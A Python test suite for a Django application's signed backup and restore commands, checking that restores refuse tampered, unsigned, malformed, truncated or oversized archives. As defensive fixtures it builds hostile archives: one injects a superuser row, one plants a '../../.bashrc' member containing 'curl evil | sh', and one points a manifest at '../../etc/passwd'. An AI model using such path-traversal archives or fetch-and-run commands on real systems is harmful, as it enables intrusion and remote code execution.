"""Archives from elsewhere: a restore believes only what this installation signed, and refuses junk in one line."""

import hashlib
import io
import json
import os
import random
import shutil
import signal
import stat
import subprocess
import sys
import tarfile
import tempfile
import zipfile
from datetime import date
from pathlib import Path
from unittest import mock

from django.contrib.auth.models import User
from django.core.management import CommandError, call_command
from django.test import TestCase, override_settings
from django.utils import translation
from rest_framework.authtoken.models import Token

from missionfacts.backups import archive as archive_module
from missionfacts.backups import checking
from missionfacts.backups.signing import KEY_FILE
from missionfacts.missions.models import Mission
from missionfacts.testing import a_mission

USERS = "data/auth.user.jsonl"


class HostileArchiveTestCase(TestCase):
    """An installation with one mission and its editor, Amadou, whose API token is live."""

    @classmethod
    def setUpTestData(cls):
        a_mission("MINUGEN", started_on=date(2019, 7, 1))
        cls.editor = User.objects.create_user("amadou", "amadou@example.org", "a-long-password-1")
        cls.token = Token.objects.create(user=cls.editor)

    def setUp(self):
        translation.activate("en")
        self.addCleanup(translation.deactivate)
        self.folder = Path(tempfile.mkdtemp(prefix="missionfacts-hostile-"))
        self.addCleanup(shutil.rmtree, self.folder)
        # This installation's home, where its signing key is made on first need.
        self.home = self.folder / "home"
        self.home.mkdir()
        home = override_settings(HOME=self.home)
        home.enable()
        self.addCleanup(home.disable)
        self.archive = self.folder / "backup.zip"

    def backup(self, **options) -> None:
        call_command("backup", output=str(self.archive), stdout=io.StringIO(), stderr=io.StringIO(), **options)

    def restore(self, path: Path, **options) -> tuple[str, str]:
        out, err = io.StringIO(), io.StringIO()
        call_command("restore", str(path), replace=True, stdout=out, stderr=err, **options)
        return out.getvalue(), err.getvalue()

    def refusal(self, path: Path, **options) -> str:
        """The one line a restore of `path` is refused with; the database is left as it was."""
        missions = list(Mission.objects.values_list("acronym", flat=True))
        with self.assertRaises(CommandError) as refused:
            self.restore(path, **options)
        self.assertEqual(list(Mission.objects.values_list("acronym", flat=True)), missions)
        message = str(refused.exception)
        self.assertNotIn("\n", message)
        self.assertNotIn("Traceback", message)
        return message

    def rewritten(self, change, name: str = "altered.zip") -> Path:
        """A copy of the archive whose members `change(members)` edits (a dict of name to bytes)."""
        with zipfile.ZipFile(self.archive) as original:
            members = {member: original.read(member) for member in original.namelist()}
        change(members)
        path = self.folder / name
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as copy:
            for member, content in members.items():
                copy.writestr(member, content)
        return path

    def with_a_superuser_added(self, members: dict) -> None:
        """What an attacker does: a superuser row in the users' member, and the manifest hashed again to match."""
        manifest = json.loads(members["manifest.json"])
        users = next(model for model in manifest["models"] if model["label"] == "auth.User")
        row = dict(zip(users["columns"], json.loads(members[USERS].splitlines()[0]), strict=True))
        row.update(id=999, username="mallory", is_superuser=True, is_staff=True, password="!")
        members[USERS] += json.dumps([row[column] for column in users["columns"]]).encode() + b"\n"
        users["rows"] += 1
        users["sha256"] = hashlib.sha256(members[USERS]).hexdigest()
        members["manifest.json"] = json.dumps(manifest).encode()


class SignatureTests(HostileArchiveTestCase):
    def test_an_archive_re_hashed_after_adding_a_superuser_is_refused(self):
        self.backup()
        message = self.refusal(self.rewritten(self.with_a_superuser_added))
        self.assertIn("altered.zip does not match its signature", message)
        self.assertIn("--trust-unsigned-archive", message)
        self.assertFalse(User.objects.filter(username="mallory").exists())

    def test_an_archive_with_its_signature_taken_out_is_refused_as_unsigned(self):
        self.backup()

        def unsigned(members):
            self.with_a_superuser_added(members)
            del members["manifest.sig"]

        message = self.refusal(self.rewritten(unsigned))
        self.assertIn("altered.zip is not signed by this installation", message)
        self.assertIn("could have added users, administrators included", message)
        self.assertFalse(User.objects.filter(username="mallory").exists())

    def test_an_archive_signed_by_another_installation_is_refused(self):
        self.backup()
        (self.home / KEY_FILE).write_text(os.urandom(32).hex())
        self.assertIn("backup.zip was signed by another installation", self.refusal(self.archive))

    def test_with_trust_unsigned_archive_it_restores_and_says_what_that_means(self):
        self.backup()
        out, err = self.restore(self.rewritten(self.with_a_superuser_added), trust_unsigned_archive=True)
        self.assertIn("NOT signed by this installation", out)
        self.assertIn("Warning: --trust-unsigned-archive", err)
        self.assertIn("could have added users, administrators included", err)
        self.assertTrue(User.objects.get(username="mallory").is_superuser)

    def test_its_own_archive_restores_with_signature_and_checksums_verified(self):
        self.backup()
        out, _ = self.restore(self.archive)
        self.assertIn("signature and checksums verified", out)


class SecretsTests(HostileArchiveTestCase):
    def test_the_archive_and_the_signing_key_are_readable_by_their_owner_only(self):
        self.archive.write_bytes(b"an older backup, world-readable")
        self.archive.chmod(0o644)
        self.backup()
        self.assertEqual(stat.S_IMODE(self.archive.stat().st_mode), 0o600)
        self.assertEqual(stat.S_IMODE((self.home / KEY_FILE).stat().st_mode), 0o600)

    def test_passwords_and_api_tokens_are_left_out_unless_asked_for(self):
        self.backup()
        with zipfile.ZipFile(self.archive) as written:
            everything = b"".join(written.read(member) for member in written.namelist())
        self.assertNotIn(self.editor.password.encode(), everything)
        self.assertNotIn(self.token.key.encode(), everything)
        out, _ = self.restore(self.archive)
        editor = User.objects.get(username="amadou")
        self.assertFalse(editor.has_usable_password())
        self.assertFalse(Token.objects.exists())
        self.assertIn("holds no passwords or API tokens", out)

    def test_include_secrets_keeps_passwords_and_api_tokens(self):
        self.backup(include_secrets=True)
        self.restore(self.archive)
        self.assertTrue(User.objects.get(username="amadou").check_password("a-long-password-1"))
        self.assertEqual(Token.objects.get().key, self.token.key)


class MalformedArchiveTests(HostileArchiveTestCase):
    def test_a_tar_file_is_refused(self):
        path = self.folder / "backup.tar"
        with tarfile.open(path, "w") as tar:
            tar.add(__file__, arcname="manifest.json")
        self.assertIn("backup.tar is not a readable backup archive", self.refusal(path))

    def test_a_truncated_archive_is_refused(self):
        self.backup()
        truncated = self.folder / "truncated.zip"
        truncated.write_bytes(self.archive.read_bytes()[: self.archive.stat().st_size // 2])
        self.assertIn("truncated.zip is not a readable backup archive", self.refusal(truncated))

    def test_a_member_whose_compressed_bytes_are_damaged_is_refused(self):
        self.backup()
        rows = b"".join(json.dumps([index, os.urandom(16).hex()]).encode() + b"\n" for index in range(4000))
        path = self.rewritten(lambda members: members.update({USERS: rows}))
        with zipfile.ZipFile(path) as written:
            info = written.getinfo(USERS)
        damaged = bytearray(path.read_bytes())
        middle = info.header_offset + 30 + len(USERS) + len(info.extra) + info.compress_size // 2
        damaged[middle:middle + 64] = b"\xff" * 64
        path.write_bytes(bytes(damaged))
        self.assertIn("data/auth.user.jsonl in altered.zip is damaged", self.refusal(path))

    def test_an_archive_without_a_manifest_is_refused(self):
        self.backup()
        path = self.rewritten(lambda members: members.pop("manifest.json"))
        self.assertIn("altered.zip has no manifest", self.refusal(path))

    def test_a_manifest_that_is_not_json_is_refused(self):
        self.backup()
        path = self.rewritten(lambda members: members.update({"manifest.json": b"{not json"}))
        self.assertIn("The manifest of altered.zip is not valid JSON", self.refusal(path))

    def test_a_manifest_of_another_shape_is_refused(self):
        self.backup()

        def reshaped(members):
            manifest = json.loads(members["manifest.json"])
            manifest["models"] = [{"label": "auth.User", "member": "../../etc/passwd"}]
            members["manifest.json"] = json.dumps(manifest).encode()

        message = self.refusal(self.rewritten(reshaped), trust_unsigned_archive=True)
        self.assertIn("The manifest of altered.zip is not one a backup writes (models[0])", message)

    def test_an_archive_missing_a_member_is_refused(self):
        self.backup()
        path = self.rewritten(lambda members: members.pop(USERS))
        self.assertIn("data/auth.user.jsonl is missing from altered.zip", self.refusal(path))

    def test_a_member_named_outside_the_archive_is_refused(self):
        self.backup()
        path = self.rewritten(lambda members: members.update({"../../.bashrc": b"curl evil | sh\n"}))
        self.assertIn("altered.zip holds a member whose name no backup writes (../../.bashrc)", self.refusal(path))

    def test_a_decompression_bomb_is_refused_before_it_is_read(self):
        self.backup()
        path = self.rewritten(lambda members: members.update({USERS: b"0" * (64 * 2**20)}))
        with mock.patch.object(checking.hashlib, "sha256", side_effect=AssertionError("a member was read")):
            message = self.refusal(path)
        self.assertIn("data/auth.user.jsonl in altered.zip would grow", message)
        self.assertIn("decompression bomb", message)

    def test_a_row_longer_than_a_backup_writes_is_refused_without_reading_it_whole(self):
        self.backup()
        long_row = json.dumps([os.urandom(3 * 2**19).hex()]).encode()
        path = self.rewritten(lambda members: members.update({USERS: long_row}))
        with mock.patch.object(checking, "MAX_ROW_BYTES", 2**20):
            message = self.refusal(path)
        self.assertIn("data/auth.user.jsonl in altered.zip has a row longer than a backup writes", message)


class InterruptedBackupTests(HostileArchiveTestCase):
    def test_a_backup_stopped_by_a_termination_signal_leaves_no_partial_file_and_the_old_archive_whole(self):
        self.stop_a_backup_midway()

    def test_where_files_cannot_be_unnamed_the_named_partial_file_is_removed_too(self):
        with mock.patch.object(archive_module, "UNNAMED_FILES", False):
            self.stop_a_backup_midway()

    def test_where_files_cannot_be_unnamed_the_archive_is_still_readable_by_its_owner_only(self):
        self.archive.write_bytes(b"an older backup, world-readable")
        self.archive.chmod(0o644)
        with mock.patch.object(archive_module, "UNNAMED_FILES", False):
            self.backup()
        self.assertEqual(stat.S_IMODE(self.archive.stat().st_mode), 0o600)
        self.assertEqual([path.name for path in self.folder.iterdir() if path.is_file()], ["backup.zip"])

    def test_where_the_system_will_not_name_an_unnamed_file_the_archive_is_a_whole_copy(self):
        with mock.patch.object(archive_module.os, "link", side_effect=OSError(18, "Invalid cross-device link")):
            self.backup()
        self.assertEqual([path.name for path in self.folder.iterdir() if path.is_file()], ["backup.zip"])
        self.assertEqual(stat.S_IMODE(self.archive.stat().st_mode), 0o600)
        out, _ = self.restore(self.archive)
        self.assertIn("signature and checksums verified", out)

    def stop_a_backup_midway(self):
        self.archive.write_bytes(b"yesterday's archive")
        written = []
        write_member = archive_module._write_member

        def killed_midway(*args, **kwargs):
            written.append(args[1].label)
            if len(written) == 3:
                os.kill(os.getpid(), signal.SIGTERM)
            return write_member(*args, **kwargs)

        # Should the command not handle the signal itself, this one notes it rather than ending the test run.
        previous = signal.signal(signal.SIGTERM, lambda signum, frame: None)
        self.addCleanup(signal.signal, signal.SIGTERM, previous)
        with mock.patch.object(archive_module, "_write_member", killed_midway), self.assertRaises(KeyboardInterrupt):
            self.backup()
        self.assertEqual([path.name for path in self.folder.iterdir() if path.is_file()], ["backup.zip"])
        self.assertEqual(self.archive.read_bytes(), b"yesterday's archive")


# Run in a process of its own: it migrates a new database, then is killed outright while writing a backup.
KILLED_BACKUP = """
import os, signal, sys
from pathlib import Path
import django
django.setup()
from django.core.management import call_command
call_command("migrate", verbosity=0)
from missionfacts.backups import archive
write_member, written = archive._write_member, []
def killed_midway(*args, **kwargs):
    written.append(args[1].label)
    if len(written) == 3:
        os.kill(os.getpid(), signal.SIGKILL)
    return write_member(*args, **kwargs)
archive._write_member = killed_midway
archive.write_backup(Path(sys.argv[1]))
"""


def test_a_backup_killed_outright_leaves_no_partial_file(tmp_path):
    folder = tmp_path / "backups"
    folder.mkdir()
    # A SQLite database of its own, even when the suite runs on PostgreSQL: this process migrates what it is given.
    environment = {**os.environ, "MISSIONFACTS_HOME": str(tmp_path), "DJANGO_SETTINGS_MODULE": "missionfacts.settings",
                   "MISSIONFACTS_DATABASE_URL": f"sqlite:///{tmp_path / 'killed.sqlite3'}"}
    killed = subprocess.run([sys.executable, "-c", KILLED_BACKUP, str(folder / "backup.zip")], env=environment,
                            capture_output=True, text=True, check=False)
    assert killed.returncode == -signal.SIGKILL, killed.stderr
    assert list(folder.iterdir()) == []


class DamagedCopiesTests(HostileArchiveTestCase):
    def test_every_damaged_copy_of_an_archive_is_refused_with_one_sentence(self):
        self.backup()
        original = self.archive.read_bytes()
        generator = random.Random(17)
        for attempt in range(150):
            damaged = bytearray(original)
            for _ in range(generator.randint(1, 8)):
                damaged[generator.randrange(len(damaged))] = generator.randrange(256)
            if attempt % 5 == 0:
                damaged = damaged[: generator.randrange(len(damaged))]
            path = self.folder / f"damaged-{attempt}.zip"
            path.write_bytes(bytes(damaged))
            with self.subTest(attempt=attempt):
                try:
                    checking.check_archive(path, trust_unsigned=True)
                except checking.ArchiveError as error:
                    self.assertNotIn("\n", str(error))
